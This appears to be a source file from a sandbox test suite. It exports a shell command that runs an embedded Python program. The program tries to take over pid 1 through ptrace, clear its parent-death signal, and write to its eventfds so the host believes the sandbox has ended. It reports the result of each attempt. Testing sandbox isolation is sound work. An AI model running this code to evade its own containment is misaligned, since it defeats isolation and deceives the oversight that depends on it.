/**
 * A Python program that tries to make its sandbox outlive the engine. It takes over the first process (pid 1) and makes that
 * process survive its parent. It also writes to the process's event descriptors, so that the process outside assumes that the
 * sandbox has ended. It prints the result of each attempt to reach the first process.
 */
const outlive = String.raw`
import ctypes, os, platform, struct

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
ATTACH, DETACH, GETREGS, SETREGS, SINGLESTEP, POKEDATA = 16, 17, 12, 13, 9, 5
RBP, RAX, RDX, RSI, RDI, ORIG_RAX, RIP, RSP = 4, 10, 12, 13, 14, 15, 16, 19

def say(way, done):
    print(way, "done" if done else os.strerror(ctypes.get_errno()), flush=True)
    return done

def vector(address, length):
    return ctypes.create_string_buffer(struct.pack("QQ", address, length))

try:
    with open("/proc/1/mem", "rb+", buffering=0): say("mem", True)
except OSError as error:
    print("mem", error.strerror)
buffer = ctypes.create_string_buffer(8)
# Nothing is mapped at address 1: EFAULT means that the access itself was granted.
libc.process_vm_writev(1, vector(ctypes.addressof(buffer), 8), 1, vector(1, 8), 1, 0)
say("process_vm_writev", False)
pidfd = libc.syscall(434, 1, 0)
say("pidfd_getfd", libc.syscall(438, pidfd, 0, 0) >= 0)

if say("ptrace", libc.ptrace(ATTACH, 1, None, None) == 0) and platform.machine() == "x86_64":
    os.waitpid(1, 0x40000000)
    saved, registers = (ctypes.c_ulonglong * 27)(), (ctypes.c_ulonglong * 27)()
    libc.ptrace(GETREGS, 1, None, ctypes.byref(saved))
    def call(number, *arguments):
        ctypes.memmove(registers, saved, ctypes.sizeof(saved))
        # The process waits in a system call, so the instruction for one is just behind it.
        registers[RIP], registers[RAX], registers[ORIG_RAX] = saved[RIP] - 2, number, 2**64 - 1
        for register, value in zip((RDI, RSI, RDX), arguments): registers[register] = value
        libc.ptrace(SETREGS, 1, None, ctypes.byref(registers))
        libc.ptrace(SINGLESTEP, 1, None, None)
        os.waitpid(1, 0x40000000)
        libc.ptrace(GETREGS, 1, None, ctypes.byref(registers))
        return ctypes.c_longlong(registers[RAX]).value
    print("prctl", call(157, 1, 0))
    place = saved[RSP] - 512
    libc.ptrace(POKEDATA, 1, place, 1)
    for descriptor in os.listdir("/proc/1/fd"):
        if "eventfd" in os.readlink("/proc/1/fd/" + descriptor): print("write", call(1, int(descriptor), place, 8))
    saved[ORIG_RAX] = 2**64 - 1
    saved[RIP] -= 2
    saved[RAX] = 61
    libc.ptrace(SETREGS, 1, None, ctypes.byref(saved))
    libc.ptrace(DETACH, 1, None, None)
`;

/** The shell command that runs the program. */
export const outliveCommand = `python3 - <<'PYTHON'\n${outlive}\nPYTHON`;
